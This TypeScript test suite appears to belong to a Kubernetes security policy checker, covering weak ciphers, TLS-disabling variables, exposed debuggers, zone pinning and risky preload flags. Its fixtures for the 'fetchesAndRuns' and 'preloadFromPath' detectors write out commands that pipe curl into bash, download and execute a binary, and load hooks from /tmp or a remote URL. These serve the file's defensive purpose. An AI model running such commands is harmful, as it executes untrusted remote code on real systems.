import { cpuCores, debuggerFlag, fetchesAndRuns, preloadFromPath, imageTag, internalAddress, memoryBytes, nginxBytes, pinnedToOneZone, plainRedis, secretFileModes, tlsWeakening, weakCiphers } from "../../policies/rules/kubernetes";
import { effectCases } from "./fixtures/effects";
import { kubernetesCases } from "./fixtures/kubernetes";
import { runCases } from "./fixtures/run";
import { chainCases } from "./fixtures/nginx-effects";

runCases(kubernetesCases);
// The Kubernetes chain rules whose fixtures live with the other cross-resource cases.
runCases(effectCases.filter((c) => ["k8s-hpa-metrics-source", "k8s-pdb-effective-prod", "k8s-rollout-surge-only-prod"].includes(c.policy)));

describe("internalAddress", () => {
  it.each(["app-pods.edgestack.svc.cluster.local:8080", "app", "localhost", "10.20.1.2:8080", "172.20.0.10", "[fd12::1]:80", "kube-dns.kube-system.svc"])("%s stays inside", (host) => {
    expect(internalAddress(host)).toBe(true);
  });
  it.each([
    ["203.0.113.10:8080", /outside the cluster and the VPC/],
    ["8.8.8.8", /outside the cluster and the VPC/],
    ["169.254.169.254", /link-local/],
    ["[fd00:ec2::254]", /link-local/],
    ["api.example.net", /a name outside the cluster/],
  ])("%s leaves", (host, why) => {
    expect(internalAddress(host)).toMatch(why);
  });
});

describe("Kubernetes quantities", () => {
  it("reads CPU in cores and memory in bytes", () => {
    expect(cpuCores("250m")).toBe(0.25);
    expect(cpuCores("1")).toBe(1);
    expect(cpuCores(2)).toBe(2);
    expect(memoryBytes("256Mi")).toBe(256 * 1024 ** 2);
    expect(memoryBytes("1G")).toBe(1e9);
    expect(cpuCores("lots")).toBeUndefined();
    expect(memoryBytes("1Xi")).toBeUndefined();
  });
});

describe("imageTag", () => {
  it.each([
    ["nginx", ""],
    ["nginx:1.27", "1.27"],
    ["registry:5000/team/app", ""],
    ["registry:5000/team/app:v2", "v2"],
    ["app@sha256:abc", undefined],
  ])("%s → %p", (image, tag) => {
    expect(imageTag(image)).toBe(tag);
  });
});

describe("secretFileModes", () => {
  it("items' own modes, else the volume's defaultMode, else Kubernetes' 0644", () => {
    expect(secretFileModes({ name: "a", secret: { secretName: "s" } })).toEqual([{ secret: "s", mode: 0o644, defaulted: true }]);
    expect(secretFileModes({ name: "a", secret: { secretName: "s", defaultMode: 288, items: [{ key: "k", path: "p" }, { key: "x", path: "y", mode: 0o400 }] } })).toEqual([
      { secret: "s", path: "p", mode: 0o440, defaulted: false },
      { secret: "s", path: "y", mode: 0o400, defaulted: false },
    ]);
    expect(secretFileModes({ name: "a", projected: { defaultMode: "0640", sources: [{ secret: { name: "s" } }] } })).toEqual([{ secret: "s", mode: 0o640, defaulted: false }]);
    expect(secretFileModes({ name: "a" })).toEqual([]);
  });
});

describe("weakCiphers", () => {
  it.each([
    ["ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384", []],
    ["HIGH:!aNULL:!MD5", ["HIGH"]],
    ["HIGH:!aNULL:!kRSA:!MD5", []],
    ["AES256:SHA256:!ADH", ["AES256", "SHA256"]],
    ["HIGH:RC4:3DES", ["HIGH", "RC4", "3DES"]],
    ["DEFAULT@SECLEVEL=0", ["DEFAULT", "@SECLEVEL=0"]],
    ["ECDHE-RSA-AES128-GCM-SHA256@SECLEVEL=1", ["@SECLEVEL=1"]],
    ["ALL:!aNULL", ["ALL"]],
    ["AES128-GCM-SHA256:DHE-RSA-AES128-GCM-SHA256", ["AES128-GCM-SHA256"]],
    ["ECDHE-RSA-DES-CBC3-SHA:+MEDIUM", ["ECDHE-RSA-DES-CBC3-SHA", "MEDIUM"]],
  ])("%s → %p", (ciphers, weak) => {
    expect(weakCiphers(ciphers)).toEqual(weak);
  });
});

describe("nginxBytes", () => {
  it("reads nginx sizes", () => {
    expect([nginxBytes("0"), nginxBytes("512k"), nginxBytes("1m"), nginxBytes("2G"), nginxBytes("1x")]).toEqual([0, 524288, 1048576, 2 * 1024 ** 3, undefined]);
  });
});

describe("TLS towards dependencies", () => {
  it("plain redis:// to anything but loopback", () => {
    expect(plainRedis("redis://cache.internal:6379")).toBe(true);
    expect(plainRedis("--url=redis://user:pw@10.0.0.5:6379/0")).toBe(true);
    expect(plainRedis("rediss://cache.internal:6379")).toBe(false);
    expect(plainRedis("redis://127.0.0.1:6379")).toBe(false);
    expect(plainRedis("redis://[::1]:6379")).toBe(false);
  });
  it("environment variables that switch verification off or lower the floor", () => {
    expect(tlsWeakening("NODE_TLS_REJECT_UNAUTHORIZED", "0")).toMatch(/any certificate/);
    expect(tlsWeakening("NODE_TLS_REJECT_UNAUTHORIZED", "1")).toBeUndefined();
    expect(tlsWeakening("NODE_OPTIONS", "--max-old-space-size=256 --tls-min-v1.1")).toMatch(/floor/);
    expect(tlsWeakening("GIT_SSL_NO_VERIFY", "true")).toMatch(/git/);
    expect(tlsWeakening("GIT_SSL_NO_VERIFY", "false")).toBeUndefined();
    expect(tlsWeakening("REQUESTS_CA_BUNDLE", "")).toMatch(/CA bundle/);
    expect(tlsWeakening("CACHE_URL", "redis://cache:6379")).toMatch(/plain text/);
  });
});

describe("debuggerFlag", () => {
  it("finds Node's inspector, JDWP and debugpy in any of their spellings", () => {
    expect(debuggerFlag("--max-old-space-size=256 --inspect=0.0.0.0:9229")).toBe("--inspect=0.0.0.0:9229");
    expect(debuggerFlag("--inspect-brk")).toBe("--inspect-brk");
    expect(debuggerFlag("--inspect-port=9229 --enable-source-maps")).toBe("--inspect-port=9229");
    expect(debuggerFlag("-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005")).toMatch(/^-agentlib:jdwp/);
    expect(debuggerFlag("python -m debugpy --listen 0.0.0.0:5678 app.py")).toBe("debugpy");
  });
  it("leaves other flags alone", () => {
    expect(debuggerFlag("--max-old-space-size=256 --enable-source-maps")).toBeUndefined();
    expect(debuggerFlag("--inspector-disabled-note")).toBeUndefined();
  });
});

describe("pinnedToOneZone", () => {
  const zoneTerm = (...values: string[]) => ({ matchExpressions: [{ key: "topology.kubernetes.io/zone", operator: "In", values }] });
  const affinity = (...terms: object[]) => ({ affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: terms } } } });
  it("names a node pin, a zone or host selector, and affinity allowing one zone", () => {
    expect(pinnedToOneZone({ nodeName: "n1" } as never)).toMatch(/node n1/);
    expect(pinnedToOneZone({ nodeSelector: { "kubernetes.io/hostname": "n1" } } as never)).toMatch(/hostname=n1/);
    expect(pinnedToOneZone(affinity(zoneTerm("a")) as never)).toMatch(/zone=a \(required node affinity\)/);
    expect(pinnedToOneZone(affinity(zoneTerm("a"), zoneTerm("a")) as never)).toMatch(/zone=a/);
  });
  it("accepts affinity whose terms together allow two zones, or a term without a zone restriction", () => {
    expect(pinnedToOneZone(affinity(zoneTerm("a", "b")) as never)).toBeUndefined();
    expect(pinnedToOneZone(affinity(zoneTerm("a"), zoneTerm("b")) as never)).toBeUndefined();
    expect(pinnedToOneZone(affinity(zoneTerm("a"), { matchExpressions: [{ key: "kubernetes.io/arch", operator: "In", values: ["arm64"] }] }) as never)).toBeUndefined();
    expect(pinnedToOneZone({ nodeSelector: { "kubernetes.io/arch": "arm64" } } as never)).toBeUndefined();
  });
});

// Round 8: preloads from a path (k8s-env-tls-verified), fetched code and hooks to other hosts.
runCases(chainCases.filter((c) => ["k8s-no-fetched-code-or-remote-hooks", "k8s-env-tls-verified"].includes(c.policy)));

describe("preloadFromPath", () => {
  it.each([
    ["--require /tmp/hook.js", "--require /tmp/hook.js"],
    ["-r ./hook.js", "-r ./hook.js"],
    ["--import=file:///tmp/x.mjs", "--import=file:///tmp/x.mjs"],
    ["--max-old-space-size=384 --experimental-loader https://x.example/l.mjs", "--experimental-loader https://x.example/l.mjs"],
    ["-javaagent:/tmp/agent.jar", "-javaagent:/tmp/agent.jar"],
    ["--require @opentelemetry/auto-instrumentations-node/register", undefined],
    ["--max-old-space-size=384", undefined],
  ])("%s → %p", (text, found) => {
    expect(preloadFromPath(text)).toBe(found);
  });
});

describe("fetchesAndRuns", () => {
  it.each([
    ["curl -fsSL https://x.example/i.sh | bash", "https://x.example/i.sh"],
    ["wget -O /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a", "http://x.example/a"],
    ['sh -c "$(curl -fsSL https://x.example/i.sh)"', "https://x.example/i.sh"],
    ["curl -fsS http://127.0.0.1:8080/livez", undefined],
    ["wget -qO- https://x.example/data.json > /tmp/d.json", undefined],
  ])("%s → %p", (text, found) => {
    expect(fetchesAndRuns(text)).toBe(found);
  });
});
